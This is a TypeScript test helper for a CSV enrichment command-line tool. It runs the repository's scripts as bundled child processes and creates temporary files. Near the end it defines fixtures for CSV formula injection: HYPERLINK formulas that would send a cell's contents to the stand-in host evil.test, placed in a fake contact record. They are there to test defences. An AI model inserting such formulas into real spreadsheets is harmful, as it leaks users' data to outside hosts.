/** The repository's command lines run as a user runs them: a child process, its exit code and output. */
import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { build, type Plugin } from 'esbuild';

const ROOT = resolve(__dirname, '../../..');
const ARTIFACTS = join(ROOT, 'test/artifacts');

export interface CliResult {
  code: number;
  stdout: string;
  stderr: string;
}

/**
 * Runs scripts/<script> from the repository root as `npm run` does after its build, but from a bundle
 * of it (see bundleScript) instead of through tsx: the same code, without tsx's loader start and
 * on-the-fly compile in every child (about half a second each on 2 cores, 16 runs per test pass).
 */
export async function runScript(script: string, args: string[], timeout = 60_000): Promise<CliResult> {
  const bundle = await bundleScript(script);
  return new Promise((done) => {
    execFile(
      process.execPath,
      ['--enable-source-maps', bundle, ...args],
      { cwd: ROOT, timeout },
      (error, stdout, stderr) => done({ code: error ? Number(error.code ?? 1) : 0, stdout, stderr }),
    );
  });
}

const bundles = new Map<string, Promise<string>>();

/**
 * scripts/<script> and the repository's modules it imports in one CommonJS file, built once per test
 * file with esbuild (the build's own compiler, tens of milliseconds). Packages stay outside, loaded
 * from node_modules as under tsx. A module's `__dirname` is replaced by its own folder, so what it
 * finds beside itself (dist/, the emulator's CLI, the UrlFetch worker) is what tsx would find.
 */
function bundleScript(script: string): Promise<string> {
  let bundle = bundles.get(script);
  if (!bundle) {
    bundle = bundleOnce(script);
    bundles.set(script, bundle);
  }
  return bundle;
}

async function bundleOnce(script: string): Promise<string> {
  // Inside the repository (test/artifacts/ is git-ignored), so that the packages resolve from its node_modules.
  mkdirSync(ARTIFACTS, { recursive: true });
  const outfile = join(mkdtempSync(join(ARTIFACTS, 'cli-')), `${script}.cjs`);
  await build({
    entryPoints: [join(ROOT, 'scripts', script)],
    outfile,
    bundle: true,
    platform: 'node',
    format: 'cjs',
    target: 'node20',
    packages: 'external',
    sourcemap: 'inline',
    logLevel: 'error',
    plugins: [ownDirname],
  });
  return outfile;
}

const ownDirname: Plugin = {
  name: 'own-dirname',
  setup(build) {
    build.onLoad({ filter: /\.ts$/ }, (args) => ({
      contents: readFileSync(args.path, 'utf8').replace(/\b__dirname\b/g, JSON.stringify(dirname(args.path))),
      loader: 'ts',
    }));
  },
};

/** Writes `name` in a fresh temporary folder: each test's output and state files stay its own. */
export function tempFile(name: string, content: string | Buffer): string {
  const file = join(mkdtempSync(join(tmpdir(), 'sheet-enrich-cli-')), name);
  writeFileSync(file, content);
  return file;
}

/** Formulas an API answer could carry: written as text, neither may run when a CSV is opened. */
export const HOSTILE_STATUS = '=HYPERLINK("http://evil.test/?leak="&A2,"Verified")';
export const HOSTILE_TITLE = '=HYPERLINK("http://evil.test/?leak="&A2,"VP")';
/** Someone the API answers about with such strings (extra emulator data): one for every command line. */
export const HOSTILE = {
  first_name: 'Mallory',
  last_name: 'Formula',
  company_domain: 'evil-formula.test',
  company_name: 'Evil Formula',
  title: HOSTILE_TITLE,
  work_email: 'mallory@evil-formula.test',
  work_email_status: HOSTILE_STATUS,
  phone: '+33 6 12 34 56 78',
  country_code: 'FR',
};
